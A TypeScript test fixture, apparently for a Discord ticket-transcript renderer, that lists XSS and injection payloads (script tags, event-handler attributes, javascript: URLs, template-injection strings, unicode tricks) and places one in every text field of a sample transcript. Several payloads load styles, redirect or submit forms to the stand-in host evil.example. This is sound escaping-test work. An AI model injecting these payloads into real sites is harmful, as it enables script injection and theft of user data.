/** What hostile people write, and all the places where they may. */
import { at, type Message } from './sample-messages.ts';
import { attachment, sampleTranscript, type Transcript } from './sample.ts';

/** What has broken out of other pages. */
export const ATTACKS = [
  '<script>window.pwned = true</script>',
  '"><img src=x onerror="window.pwned = true">',
  "' onmouseover='window.pwned = true' '",
  '</title></style></textarea><svg onload="window.pwned = true">',
  '--><script>window.pwned = true</script><!--',
  '<![CDATA[<script>window.pwned = true</script>]]>',
  'javascript:window.pwned=true',
  'JaVa\tScript:window.pwned=true',
  'data:text/html,<script>alert(1)</script>',
  '[click](javascript:window.pwned=true)',
  '<javascript:window.pwned=true>',
  '[x](https://a.example" onmouseover="window.pwned=true)',
  'https://a.example/"onmouseover="window.pwned=true',
  '||<script>window.pwned = true</script>||',
  '```</code></pre><script>window.pwned = true</script>```',
  '> # <iframe src="javascript:window.pwned=true">',
  '<@"><script>window.pwned = true</script>>',
  'red;}*{background:url(https://evil.example/)}',
  '#ff0000;background:url(https://evil.example/)',
  '<link rel="stylesheet" href="https://evil.example/a.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/"><form action="https://evil.example/"><input name=body>',
  '${alert(1)} {{constructor.constructor("window.pwned=true")()}} <%= 1 %>',
  '\u202Egnp.exe\u2066\u0000\uFFFE\u2028\u2029\uD800',
  '&lt;script&gt; &#60;script&#62; &amp;',
  '\u003Cscript\u003E %3Cscript%3E \\x3cscript\\x3e',
];

/** The text in every text field of a transcript, whether Discord would accept it or not. */
export function everywhere(text: string): Transcript {
  const media = { url: text, proxy_url: text };
  const emoji = { name: text, id: text };
  const message: Message = {
    id: text,
    author: { id: text, name: text, avatar: text, bot: true },
    type: 0,
    content: text,
    created_at: at(0),
    edited_at: text,
    deleted_at: text,
    reply_to: text,
    attachments: [text, 'unknown'],
    embeds: [
      {
        title: text,
        description: text,
        url: text,
        timestamp: text,
        color: 1,
        image: media,
        thumbnail: media,
        video: media,
        provider: { name: text, url: text },
        author: { name: text, url: text, icon_url: text },
        footer: { text, icon_url: text },
        fields: [{ name: text, value: text, inline: true }],
      },
    ],
    components: [
      {
        type: 17,
        accent_color: text,
        spoiler: true,
        components: [
          { type: 1, components: [{ type: 2, style: 5, label: text, url: text, emoji }] },
          {
            type: 1,
            components: [
              { type: 3, placeholder: text, options: [{ label: text, description: text, emoji }] },
            ],
          },
          {
            type: 9,
            components: [{ type: 10, content: text }],
            accessory: { type: 11, media, description: text },
          },
          { type: 12, items: [{ media, description: text }] },
          { type: 13, file: media },
        ],
      },
    ],
    reactions: [{ emoji: text, emoji_id: text, count: 1 }],
    stickers: [{ id: text, name: text, format_type: 1 }],
    poll: {
      question: text,
      answers: [{ text, emoji: text, count: 1 }],
      multiselect: true,
      finalized: false,
      expires_at: text,
    },
  };
  const messages = [message, { ...message, type: 4 }, { ...message, type: 18, reply_to: null }];
  const person = { id: text, name: text, avatar: text, roles: [text], joined_at: text };
  const levels = [0, 1].map(() => ({ label: text, emoji: text, color: text, description: text }));
  const file = { ...attachment(text, text, text, 5), url: text };
  const { ticket } = sampleTranscript();
  return {
    guild: {
      id: text,
      name: text,
      roles: [{ id: text, name: text, color: text, position: 1 }],
      channels: [{ id: text, name: text, type: 0 }],
    },
    group: {
      id: text,
      name: text,
      form_title: text,
      schedule: [],
      schedule_timezone: text,
      priority_levels: levels,
      rating_levels: levels,
    },
    ticket: {
      ...ticket,
      id: text,
      uuid: text,
      status: text,
      owner_id: text,
      assigned_id: text,
      closed_reason: text,
      opened_at: text,
      closed_at: text,
      locked_at: text,
      form: [{ title: text, value: text, type: text }],
    },
    channel_members: [person],
    channel_messages: messages,
    channel_message_attachments: [file],
    thread_members: [person],
    thread_messages: messages,
    thread_message_attachments: [file],
  };
}
